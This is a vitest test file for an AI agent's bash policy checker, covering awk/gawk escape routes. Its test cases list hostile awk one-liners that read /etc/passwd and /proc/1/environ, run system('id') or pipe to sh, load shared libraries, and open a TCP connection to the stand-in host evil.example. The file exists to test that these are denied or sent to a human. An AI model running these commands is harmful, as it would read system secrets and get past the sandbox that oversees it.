import { describe, expect, it } from 'vitest';
import { checkCommand } from '../../../../toolsets/bash/policy.js';

const cfg = { allow: [], deny: [], curlHosts: [] };
const verdict = async (command: string) => (await checkCommand(command, cfg)).verdict;

/** issue 16, defect 1: awk read any file (ARGV/ARGC), and gawk's @ constructs were not looked at. */
describe('awk: ways to read files, run programs, load code or read the environment are refused', () => {
  it.each([
    ['awk \'BEGIN{ARGV[1]="/etc/passwd"; ARGC=2} {print}\'', /ARGV/],
    ['awk \'BEGIN{ARGV[ARGC++]="/etc/passwd"} NR<3\'', /ARGV|ARGC/],
    ['gawk \'BEGIN{ARGV[ARGC++]="/proc/1/environ"} {print}\'', /ARGV|ARGC/],
    ['mawk \'BEGIN { ARGC = 2; ARGV[1] = "/proc/1/environ" } 1\'', /ARGV|ARGC/],
    ['gawk \'BEGIN{f="system"; @f("id")}\'', /@/],
    ['gawk \'@load "filefuncs"; BEGIN{stat("/", a)}\'', /@/],
    ['gawk \'@include "/etc/passwd"\'', /@/],
    ['gawk \'BEGIN{SYMTAB["ARG" "V"][1]="/etc/passwd"}\'', /SYMTAB|ARGV/],
    ['gawk \'BEGIN{print PROCINFO["pid"]}\'', /PROCINFO/],
    ['gawk \'BEGIN { s = "/inet/tcp/0/evil.example/80"; print "x" |& s }\'', /pipe|\|&|inet/],
    // A regex literal holding a quote hid system() from the old check, which blanked "..." first.
    ['awk \'/"/ { system("id") } /"/\'', /system/],
    ['awk \'$0 ~ /"/ { print | "sh" } /"/\'', /pipe/],
    ['awk \'{ print $1 > "/tmp/x" }\'', /writes files/],
    ['awk \'{ printf("%s", $1) >> "/tmp/x" }\'', /writes files/],
    ["awk -l filefuncs '{print}'", /loads a shared library/],
    ["gawk --load=filefuncs '{print}'", /loads a shared library/],
    ["awk -v ARGC=2 '{print}'", /ARGC/],
  ])('refuses %s', async (command, reason) => {
    const v = await verdict(command);
    expect(v.decision).toBe('deny');
    expect((v as { reason: string }).reason).toMatch(reason);
  });

  it.each([
    'gawk -e \'BEGIN{system("id")}\'',
    'awk -f /etc/passwd',
    "gawk -i /etc/passwd '{print}'",
    "awk '{print}' /etc/passwd",
    'awk -W exec /etc/passwd',
    'gawk -E /tmp/prog',
  ])('asks a human for %s', async (command) => {
    expect((await verdict(command)).decision).toBe('ask');
  });

  it.each([
    "awk '{print $1, $3}'",
    "awk -F: '{print $1}'",
    "awk '$3 > 100 {print $1}'",
    "awk 'length($0) > 80'",
    "awk '/err|warn/ {n++} END {print n+0}'",
    "awk '{ a[$1]++ } END { for (k in a) print k, a[k] }'",
    'awk \'{ if ($0 ~ /"status":"error"/) print }\'',
    'awk \'{ printf "%s %d\\n", $1, $2 / 1024 }\'',
    "awk -v min=5 '$2 >= min { print ($2 > 10), $1 }'",
    "awk '{ x = $2 / 2; y = x / 3; print x, y }'",
    'awk \'NR > 1 && $4 != "Running"\'',
  ])('still allows %s', async (command) => {
    expect(await verdict(command)).toEqual({ decision: 'allow' });
  });
});
